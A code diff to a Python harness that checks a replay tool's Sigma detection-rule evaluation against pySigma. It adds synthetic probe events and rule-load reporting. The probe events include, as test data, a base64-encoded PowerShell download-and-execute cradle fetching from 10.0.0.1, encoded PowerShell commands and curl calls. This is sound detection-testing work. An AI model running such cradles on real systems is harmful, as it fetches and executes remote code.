@@ -215,6 +215,48 @@ def self_test():
     return problems
 
 
+# --probes: events of our own making (not recorded), in the trace schema, aimed at the
+# SigmaHQ rules where the engines' handling of an edge differs. Each says what it
+# exercises; the ones marked BUG fail the comparison until the replay's rule evaluation
+# is fixed (docs/sigma-agreement.md, "Differences the traces do not show").
+PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
+CMD = r"C:\Windows\System32\cmd.exe"
+CURL = r"C:\Windows\System32\curl.exe"
+
+
+def _b64(text):
+    import base64
+    return base64.b64encode(text.encode()).decode()
+
+
+PROBES = [
+    # BUG: a wildcard inside a value ('join*split', crackmapexec obfuscation) across a line break.
+    (PS, "powershell.exe -c \"$s = 'a','b' -join ''\n$t = $s -split ''\""),
+    (PS, "powershell.exe -c \"$s = 'a','b' -join ''; $t = $s -split ''\""),
+    # BUG: |base64offset|contains 'IEX (New' two bytes into the payload (offset 2).
+    (CMD, "cmd /c echo " + _b64("$a=1;IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a')") + " > x.txt"),
+    # ... at offset 0, where the byte after the value happens to keep the last character.
+    (CMD, "cmd /c echo " + _b64("IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a')") + " > x.txt"),
+    # |re '\s-H\s' is case-sensitive: -h is not -H.
+    (CURL, 'curl.exe -h "User-Agent: x" http://10.0.0.1/'),
+    (CURL, 'curl.exe -H "User-Agent: x" http://10.0.0.1/'),
+    # |contains ' -enc ' in another case; and an en dash where a rule says |windash.
+    (PS, "POWERSHELL.EXE -ENC SQBFAFgA"),
+    (PS, "powershell.exe \u2013enc SQBFAFgA"),
+]
+
+
+def write_probes(path):
+    with open(path, "w", encoding="utf-8") as f:
+        for n, (image, cmdline) in enumerate(PROBES, 1):
+            f.write(json.dumps({
+                "t_ns": n * 1000, "kind": "process_create", "pid": 1000 + n, "ppid": 4, "tid": 1,
+                "image": image, "cmdline": cmdline, "base": None, "size": None, "exit_code": None,
+                "is_kernel": False, "source": "sigma-agree probes", "user": r"NT AUTHORITY\SYSTEM",
+                "integrity_level": "System",
+            }) + "\n")
+
+
 # ---------------------------------------------------------------- our side
 
 
@@ -224,7 +266,8 @@ def replay_supports_rules(replay):
 
 
 def run_replay(replay, trace, rules_dir, with_rules):
-    """(event objects evaluated, {(RuleId, Sequence)}, alert objects, format problems)."""
+    """(event objects evaluated, {(RuleId, Sequence)}: alert object, format problems,
+    (rules the replay loaded, [(file, reason)] it did not) or None without rules)."""
     cmd = [replay, "--trace", trace, "--format", "json"]
     if with_rules:
         cmd += ["--rules", rules_dir]
@@ -232,6 +275,14 @@ def run_replay(replay, trace, rules_dir, with_rules):
     if proc.returncode != 0:
         raise RuntimeError(f"{' '.join(cmd)} exited {proc.returncode}:\n{proc.stderr[-2000:]}")
     events, alerts, problems = [], {}, []
+    loaded = None
+    if with_rules:
+        # The replay's account of the load (src/user/rules.rs, `Loaded::report`).
+        not_loaded = re.findall(r"^notifyring: rule not loaded: (.*?): (.*)$", proc.stderr, re.M)
+        counts = re.search(r"^notifyring: rules: (\d+) loaded, (\d+) skipped .*?, (\d+) failed", proc.stderr, re.M)
+        if counts is None:
+            problems.append("the replay's stderr has no 'notifyring: rules: N loaded, …' line")
+        loaded = (int(counts.group(1)) if counts else None, not_loaded)
     last = None  # the last event object: an alert follows the event it matches
     seen_seq = set()
     for n, line in enumerate(proc.stdout.splitlines(), 1):
@@ -262,7 +313,7 @@ def run_replay(replay, trace, rules_dir, with_rules):
     for key, obj in alerts.items():
         if key[1] not in seen_seq:
             problems.append(f"alert {key}: EventID {obj.get('MatchedEventID')} is not one a Sigma category maps to")
-    return events, alerts, problems
+    return events, alerts, problems, loaded
 
 
 # ---------------------------------------------------------------- comparison
@@ -298,6 +349,8 @@ def main():
     ap.add_argument("--traces", nargs="+", required=True, help="recorded traces (.jsonl.gz)")
     ap.add_argument("--pysigma-only", action="store_true",
                     help="replay without --rules and run only the pySigma side (development; exits 0)")
+    ap.add_argument("--probes", metavar="FILE",
+                    help="also write PROBES, our own edge-case events, to FILE as a trace and compare on it")
     ap.add_argument("--verbose", action="store_true", help="every disagreement, explained ones too, and the SQL")
     args = ap.parse_args()
 
@@ -314,6 +367,10 @@ def main():
                    "(--pysigma-only runs the pySigma side alone)")
     with_rules = has_rules and not args.pysigma_only
 
+    if args.probes:
+        write_probes(args.probes)
+        args.traces.append(args.probes)
+
     # The replays run beside the conversion (a processor each on two).
     pool = ThreadPoolExecutor(max_workers=2)
     replays = {t: pool.submit(run_replay, args.replay, t, args.rules, with_rules) for t in args.traces}
@@ -325,13 +382,22 @@ def main():
         columns.update(r.fields)
 
     rows, failures, explained, format_problems, query_errors = [], [], [], [], []
+    by_path = {r.path for r in rules}
+    ours_loaded, load_failures = set(), {}
     used_known = set()
     for trace in args.traces:
         try:
-            events, alerts, problems = replays[trace].result()
+            events, alerts, problems, loaded = replays[trace].result()
         except Exception as e:
             fail_setup(str(e))
         format_problems += [f"{os.path.basename(trace)}: {p}" for p in problems]
+        if loaded is not None:
+            n_loaded, not_loaded = loaded
+            ours_loaded.add(n_loaded)
+            for file, reason in not_loaded:
+                rel = os.path.relpath(file, args.rules) if os.path.isabs(file) == os.path.isabs(args.rules) else file
+                if rel in by_path:
+                    load_failures[rel] = reason
         cols = set(columns)
         for ev in events:
             cols.update(ev)
@@ -362,13 +428,13 @@ def main():
                 n_ours = sum(1 for k in ours if k[0] == rid)
                 n_theirs = sum(1 for k in theirs if k[0] == rid)
                 print(f"  {n_ours:5} {n_theirs:5}  {by_id[rid].path if rid in by_id else rid}")
-        rows.append((name, len(events), len(rules), len(ours) if with_rules else "-", len(theirs),
+        rows.append((name, len(events), f"{loaded[0] if loaded else '-'}/{len(rules)}", len(ours) if with_rules else "-", len(theirs),
                      len(ours & theirs) if with_rules else "-", len(only_ours) if with_rules else "-",
                      len(only_theirs) if with_rules else "-", n_explained if with_rules else "-"))
     pool.shutdown()
     elapsed = time.monotonic() - start
 
-    head = ("trace", "events", "rules", "ours", "pySigma", "agreed", "only-ours", "only-pySigma", "explained")
+    head = ("trace", "events", "rules ours/pySigma", "ours", "pySigma", "agreed", "only-ours", "only-pySigma", "explained")
     widths = [max(len(str(x)) for x in col) for col in zip(head, *rows)]
     for r in [head] + rows:
         print("  ".join(str(x).ljust(w) if i == 0 else str(x).rjust(w) for i, (x, w) in enumerate(zip(r, widths))))
@@ -377,6 +443,11 @@ def main():
           f"{len(unconverted)} pySigma could not convert (excluded)")
     for rel, reason in unconverted:
         print(f"  not converted: {rel}: {reason}")
+    if with_rules:
+        print(f"the replay loaded {', '.join(str(n) for n in sorted(ours_loaded, key=str))} rules"
+              f" ({len(load_failures)} that pySigma converts failed to load)")
+        for rel, reason in sorted(load_failures.items()):
+            print(f"  NOT LOADED by the replay: {rel}: {reason}")
     for rule, err in query_errors:
         print(f"  query failed: {rule.path}: {err}")
 
@@ -424,7 +495,10 @@ def main():
     if not with_rules:
         print("sigma-agree: pySigma side only (the replay ran without --rules): NOT a comparison")
         return 0
-    ok = not failures and not format_problems and not query_errors
+    ok = not failures and not format_problems and not query_errors and not load_failures
+    if ours_loaded != {len(rules)}:
+        print(f"the replay loaded {sorted(ours_loaded, key=str)} rules, pySigma converted {len(rules)}")
+        ok = False
     print("sigma-agree: " + ("ok: every disagreement is explained" if ok else "FAILED"))
     return 0 if ok else 1
 
